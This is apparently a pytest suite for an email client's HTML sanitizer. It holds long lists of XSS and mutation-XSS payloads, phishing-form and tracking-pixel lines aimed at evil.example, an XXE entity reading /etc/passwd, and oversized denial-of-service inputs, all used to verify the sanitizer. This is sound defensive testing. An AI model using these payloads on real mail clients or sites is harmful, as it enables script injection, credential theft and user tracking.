"""HTML of strangers: what is left of it, and how long that takes."""

# ruff: noqa: E501

import re
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from channels.mail.markup import is_hostile, sanitize
from channels.mail.parsed import parse
from channels.mail.rendering import render
from channels.mail.styles import filter_style
from tests.pace import within
from tests.payloads.mail.builders import mail

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" jav&#x09;ascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="//evil.example/x">x</a>',
    '<a href="/admin">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<object data="https://evil.example"></object><embed src="https://evil.example">',
    '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{background:url(https://evil.example)}</style>",
    '<p style="background:url(https://evil.example/x.gif)">x</p>',
    '<p style="background-image:u\\72l(https://evil.example)">x</p>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="-moz-binding:url(https://evil.example)">x</p>',
    '<p style="margin-left:-9999px">x</p>',
    '<div style="/**/x:y" id="app" class="console" onclick="alert(1)">x</div>',
    '<img src="https://evil.example/pixel.gif">',
    '<img src="//evil.example/pixel.gif">',
    '<img srcset="https://evil.example/x 2x" src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<table background="https://evil.example/x.gif"><tr><td>x</td></tr></table>',
    '<video src="https://evil.example/x.mp4" poster="https://evil.example/x"></video>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<x/onmouseover=alert(1)>x</x>",
    '<a href="https://ok.example" target="_top" onclick="x()">x</a>',
    "<dialog open><p>x</p></dialog><marquee onstart=alert(1)>x</marquee>",
    "<plaintext><b>x",
    "<button formaction=javascript:alert(1)>x</button>",
]
MUTANTS = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=alert(1)">',
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "<svg><desc><noscript><img src=x onerror=alert(1)></noscript>",
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
    "<select><noembed></select><script x='a@b'a>y='a@b'//a@b%0a\\u0091\\u0091;alert(1)</script>",
    "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<noframes><img src=x onerror=alert(1)></noframes>",
    "<iframe><img src=x onerror=alert(1)></iframe>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="https://x" ping="https://evil.example">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img longdesc='https://evil.example' lowsrc='https://evil.example' dynsrc='https://evil.example' usemap='#x'>",
    "<picture><source srcset='https://evil.example/x'><img src=cid:x></picture>",
    "<td background='https://evil.example'>x",
    "<body background='https://evil.example' onload=alert(1)>x",
    "<div style='background-image: url(\"https://evil.example\")'>x</div>",
    "<div style=\"background:URL('https://evil.example')\">x</div>",
    "<div style='background: image-set(\"https://evil.example\" 1x)'>x</div>",
    "<div style='list-style-image:url(https://evil.example)'>x</div>",
    "<div style='content:url(https://evil.example);cursor:url(x)'>x</div>",
    "<div style='font-family:x;}body{color:red'>x</div>",
    "<div style='color:red;@import url(https://evil.example)'>x</div>",
    "<div style='width:1px;--x:url(https://evil.example);background:var(--x)'>x</div>",
    "<div style='filter:progid:DXImageTransform.Microsoft.x(src=https://evil.example)'>x</div>",
    "<div style='behavior:url(x)'>x</div>",
    "<div style='display:none!important'>hidden</div>",
    "<div style='top:0;left:0;inset:0;position:sticky;transform:scale(9)'>x</div>",
    "<div style='float:left;width:99999px;margin:-50px'>x</div>",
    "<font style='font-size:0' color='red\" onmouseover=alert(1)'>x</font>",
    "<a href='https://ok.example' style='display:block' rel='opener' target='_self'>x</a>",
    "<a href='https://user:pass@evil.example'>x</a>",
    "<input type=image src=https://evil.example><video><source src=https://evil.example></video><audio src=https://evil.example>",
    "<embed src=https://evil.example><object data=https://evil.example><param name=x value=y></object><applet code=x>",
    "<link rel=prefetch href=https://evil.example><meta http-equiv=refresh content='0;https://evil.example'><base href=//evil.example>",
    "<frameset><frame src=https://evil.example></frameset>",
    "<isindex action=javascript:alert(1) type=image>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><p>&x;</p>",
    "<?xml-stylesheet href='https://evil.example'?><p>x</p>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if gte mso 9]><img src=x onerror=alert(1)><![endif]-->",
    '<img src="x1234567890abcdef:https://evil.example">',
    "<details open ontoggle=alert(1)>x</details>",
    "<p title='x data-remote-src=\"https://q\"'>x</p>",
    "<ruby><rt><svg/onload=alert(1)></rt></ruby>",
    "<template><p></template><img src=x onerror=alert(1)>",
    "<img src=cid:x%22onerror=alert(1)>",
    "<img src='cid:a\"onerror=alert(1)'>",
    "<a xlink:href='javascript:alert(1)'>x</a><a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<blink><bgsound src=javascript:alert(1)><layer src=x></layer>",
    '<a href="mailto:x@y?body=<script>">x</a>',
]
"""What became script in other sanitisers, in browsers that read their output once more; and everything that loads."""
FORBIDDEN = ("script", "alert", "onerror", "onload", "javascript", "evil.example", "<form", "<input", "<iframe", "<svg", "<math",
             "<style", "<meta", "<base", "<link", "position", "expression", "url(", "id=", "class=", "onclick", "data:", "-9999")  # fmt: skip


PARKED = re.compile(r' data-remote-src="[^"]*"')


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_runs_loads_or_escapes_is_left(payload: str) -> None:
    for page in (payload, f"<div>{payload}", f"<table><tr><td>{payload}</table>"):
        safe = PARKED.sub("", sanitize(page).html.lower())

        assert not [word for word in FORBIDDEN if word in safe.replace("&lt;", "")]


LIVE = re.compile(
    r"<script|\son\w+\s*=|javascript:|<(?:svg|math|style|form|iframe|object|embed|meta|base|link|input|video|audio|template|noscript"
    r"|picture|source|select|textarea|frame)|url\(|position|expression|srcset|(?<!data-remote-src=\")https://evil"
    r"|\ssrc=\"(?!cid:|data:image/(?:png|jpe?g|gif|webp|bmp);base64,)",
    re.IGNORECASE,
)


def settled(html: str) -> str:
    """`html` with the attributes of each tag in order: theirs is a matter of chance."""
    return re.sub(r" [a-z-]+=\"[^\"]*\"(?: [a-z-]+=\"[^\"]*\")*", _in_order, html)


def _in_order(match: re.Match[str]) -> str:
    return "".join(sorted(re.findall(r" [a-z-]+=\"[^\"]*\"", match.group())))


@pytest.mark.parametrize("payload", PAYLOADS + MUTANTS)
def test_no_tag_that_is_left_runs_or_loads_and_reading_it_again_changes_nothing(payload: str) -> None:
    for page in (payload, f"<div>{payload}", f"<table><tr><td>{payload}</table>", f"<a>{payload}</a>{payload}"):
        safe = sanitize(page).html
        tags = re.findall(r"<(?:[^<>\"]|\"[^\"]*\")*>", safe)

        assert [tag for tag in tags if LIVE.search(tag)] == []
        assert settled(sanitize(safe).html) == settled(PARKED.sub("", safe))


ATOMS = [
    "<", ">", "</", "/>", '"', "'", "=", " ", "<!--", "-->", "--!>", "<![CDATA[", "]]>", "<svg>", "</svg>", "<math>", "<mtext>", "<mglyph>", "<style>",
    "</style>", "<title>", "</title>", "<noscript>", "</noscript>", "<table>", "<td>", "</table>", "<form>", "</form>", "<select>", "<p>", "</p>", "<a ",
    "<img ", "src", "href", "onerror", "style", "javascript:alert(1)", "https://evil.example", "//evil.example", "cid:x", "data:image/svg+xml,", "url(",
    "&lt;", "&#x3c;", "&quot;", "&colon;", "\x00", "\n", "<annotation-xml encoding=text/html>", "<desc>", "<textarea>", "<xmp>", "<plaintext>", "x", "\\",
    "background", "srcset", "<template>", "</template>", "<b>", "</b>", "<br>", "<details>",
]  # fmt: skip


@pytest.mark.parametrize("inner", ["<a href=//x>", "<p>", "<h2>", "<b><p>", "<a href=//x><p><a href=//y>"])
def test_what_a_table_pushes_out_is_read_as_it_was_written(inner: str) -> None:
    for outer in ("<a href=https://x.example>", "<p>", "<h1>", "<li><a href=https://x.example>"):
        page = f"{outer}<table>{inner}<img src=https://x.example/a.png><img src=cid:in>one</table>two"
        found = sanitize(page, inline_images={"in": "/files/f1"})

        again = sanitize(found.html)
        assert re.findall(r"</?[a-z0-9]+", again.html) == re.findall(r"</?[a-z0-9]+", found.html)
        assert (found.remote_images, found.html.count('src="/files/f1"'), found.html.count("data-remote-src")) == (
            1,
            1,
            1,
        )
        assert found.html.index("one") < found.html.index("two")


@settings(max_examples=500, deadline=None)
@given(st.lists(st.sampled_from(ATOMS), max_size=25))
def test_no_mixture_of_markup_runs_or_loads(atoms: list[str]) -> None:
    safe = sanitize("".join(atoms)).html
    tags = re.findall(r"<(?:[^<>\"]|\"[^\"]*\")*>", safe)

    assert [tag for tag in tags if LIVE.search(tag)] == []
    assert settled(sanitize(safe).html) == settled(PARKED.sub("", safe))


def test_remote_images_load_only_when_asked_and_only_safely() -> None:
    page = '<img src="https://shop.example/a.png"><img src="http://shop.example/b.png">'

    assert sanitize(page).remote_images == 2
    assert sanitize(page).html == (
        '<img data-remote-src="https://shop.example/a.png"><img data-remote-src="https://shop.example/b.png">'
    )
    assert sanitize(page, remote_image=lambda url: f"/pictures?url={quote(url, safe='')}&exp=1").html == (
        '<img src="/pictures?url=https%3A%2F%2Fshop.example%2Fa.png&amp;exp=1">'
        '<img src="/pictures?url=https%3A%2F%2Fshop.example%2Fb.png&amp;exp=1">'
    )


def test_links_open_elsewhere_and_tell_nothing() -> None:
    assert sanitize('<a href="https://shop.example">x</a>').html == (
        '<a href="https://shop.example" target="_blank" rel="noopener noreferrer nofollow">x</a>'
    )


def test_looks_that_do_no_harm_stay() -> None:
    assert (
        filter_style("color: red; font-size:12px;border:1px solid #ccc")
        == "color:red;font-size:12px;border:1px solid #ccc"
    )
    assert filter_style("color:red;position:absolute;background:url(x)") == "color:red"
    assert filter_style("color:rgb(1,2,3);width:calc(1px)") == "color:rgb(1,2,3)"


HUGE = {
    "500 kB of div": "<div>" * 100_000,
    "a thousand deep, then words": "<div>" * 990 + "x" * 300_000,
    "formatting over paragraphs": "".join(f"<font color=#{number:06x}>" for number in range(400)) + "<p>x" * 200_000,
    "attributes": "<div " + " ".join(f"a{number}" for number in range(100_000)) + ">",
    "tables in tables": "<table>" * 200_000,
    "words between tables": "<div>" * 400 + "<table>" * 500 + "x<b>y</b>" * 50_000,
    "links in links": "<a href=x>" * 80_000,
    "open comments": "<!--" * 250_000,
    "less-than": "<" * 1_000_000,
    "half tags": "<a " * 330_000,
    "quotes": '<a "' * 250_000,
    "entities": "&amp" * 250_000,
    "no-break spaces": "\xa0" * 1_000_000,
    "ampersands": "&" * 1_000_000,
    "ampersands, fewer": "&" * 59_000,
    "select": "<select>" * 100_000,
    "two megabytes": "<p>x</p>" * 300_000,
}


@pytest.mark.parametrize("name", HUGE)
def test_hostile_pages_take_bounded_time(name: str) -> None:
    with within(4):
        parse(mail(HUGE[name], {"Content-Type": "text/html"}))


def test_half_a_megabyte_of_divs_is_text_at_once() -> None:
    with within(0.2):
        safe = sanitize("<div>" * 100_000, text="words & more")
    assert (safe.is_text_only, safe.html) == (True, '<div style="white-space:pre-wrap">words &amp; more</div>')


def test_newsletters_are_not_hostile() -> None:
    row = '<table width="600"><tr><td style="padding:10px"><table><tr><td><a href="https://x.example"><b>x</b></a></td></tr></table>'

    assert not is_hostile((row + "</td></tr></table>") * 800)
    assert not is_hostile(row * 20 + "</td></tr></table>" * 20)


TEXTS = [
    ("one<br>two<br><br>three", "one\ntwo\n\nthree"),
    ("<p>one</p><p>two</p>", "one\n\ntwo"),
    ("<div>one</div><div>two</div>", "one\ntwo"),
    ("<ul><li>one</li><li>two</li></ul>", "- one\n- two"),
    ("a &lt;b&gt; &amp; c&nbsp;d &#8364;", "a <b> & c d €"),
    ("<style>x{}</style><script>y</script>words<!-- not this -->", "words"),
    ("<title>t</title><body>words", "words"),
    ("<pre>a\n  b\nc</pre>", "a\n  b\nc"),
    ("<p>seen</p><div style='display:none'>not</div>", "seen"),
    ("<p>un\nbroken   line</p>", "un broken line"),
    ('<blockquote type="cite">q<blockquote>qq</blockquote></blockquote>a', "> q\n> > qq\na"),
    ("1 < 2 and 3 > 2", "1 < 2 and 3 > 2"),
    ("<p>open <b>bold <i>both</p><p>next", "open bold both\n\nnext"),
    ("<td>a</td><td>b</td>", "a b"),
    ("", ""),
]


@pytest.mark.parametrize(("page", "text"), TEXTS)
def test_html_as_text(page: str, text: str) -> None:
    assert parse(mail(page, {"Content-Type": "text/html; charset=utf-8"})).body_text == text


@given(st.text(alphabet=st.sampled_from(list("<>/!-=\"' abdivpre&;#x1\n"))))
def test_any_page_is_rendered_and_sanitised_without_error(page: str) -> None:
    render(page)
    assert "<script" not in sanitize(page).html
